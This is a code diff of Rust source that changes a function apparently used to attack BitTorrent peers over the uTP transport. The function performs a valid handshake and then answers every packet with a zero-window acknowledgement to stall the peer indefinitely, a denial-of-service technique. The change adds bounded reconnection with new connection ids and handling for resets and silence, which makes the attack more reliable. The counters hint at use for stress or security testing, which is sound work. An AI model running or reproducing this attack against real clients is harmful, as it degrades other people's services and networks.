@@ -176,26 +176,40 @@ pub async fn attack(target: SocketAddr, info_hash: [u8; 20], sent: Arc<Sent>) {
 }
 
 /// Connects, sends a valid BitTorrent handshake for the torrent, and from then on
-/// acknowledges whatever arrives with a window of zero.
+/// acknowledges whatever arrives with a window of zero. A connection made before the torrent
+/// was ready to take peers is reset or stays silent: it is made again (bounded), with a new id.
 async fn zero_window_forever(target: SocketAddr, info_hash: [u8; 20], sent: Arc<Sent>) {
     let raw = Raw::new(target).await;
-    let id = 30_000u16;
-    let Some(s0) = raw.handshake(id, 0).await else {
-        return;
-    };
-    let hs = Handshake::new(info_hash, *b"-ZW0001-zerowindow!!").encode();
-    raw.send(PacketType::Data, id + 1, 2, s0.wrapping_sub(1), 0, &hs)
-        .await;
-    loop {
-        let Some((h, _)) = raw.recv(Duration::from_secs(1)).await else {
-            // Keep telling it, in case it missed us.
-            raw.send(PacketType::State, id + 1, 3, s0.wrapping_sub(1), 0, b"")
-                .await;
-            continue;
+    for attempt in 0..10u16 {
+        let id = 30_000 + 2 * attempt;
+        let Some(s0) = raw.handshake(id, 0).await else {
+            return;
         };
-        if h.ty == PacketType::Data || h.ty == PacketType::Fin {
-            raw.send(PacketType::State, id + 1, 3, h.seq, 0, b"").await;
-            sent.zero_window_acks.fetch_add(1, Ordering::Relaxed);
+        let hs = Handshake::new(info_hash, *b"-ZW0001-zerowindow!!").encode();
+        raw.send(PacketType::Data, id + 1, 2, s0.wrapping_sub(1), 0, &hs)
+            .await;
+        let mut silent = 0;
+        loop {
+            let Some((h, _)) = raw.recv(Duration::from_secs(1)).await else {
+                silent += 1;
+                if silent >= 4 && sent.zero_window_acks.load(Ordering::Relaxed) == 0 {
+                    break;
+                }
+                // Keep telling it, in case it missed us.
+                raw.send(PacketType::State, id + 1, 3, s0.wrapping_sub(1), 0, b"")
+                    .await;
+                continue;
+            };
+            if h.conn_id != id + 1 && h.conn_id != id {
+                continue;
+            }
+            if h.ty == PacketType::Reset {
+                break;
+            }
+            if h.ty == PacketType::Data || h.ty == PacketType::Fin {
+                raw.send(PacketType::State, id + 1, 3, h.seq, 0, b"").await;
+                sent.zero_window_acks.fetch_add(1, Ordering::Relaxed);
+            }
         }
     }
 }
